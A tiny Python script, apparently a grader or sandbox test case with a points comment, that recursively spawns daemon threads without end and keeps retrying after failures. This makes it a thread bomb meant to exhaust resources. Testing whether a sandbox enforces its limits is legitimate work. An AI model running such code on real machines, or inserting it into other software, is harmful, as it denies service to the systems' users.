"""Threads that start threads."""
# points: 0 2

import threading
import time


def more():
    while True:
        try:
            threading.Thread(target=more, daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


more()
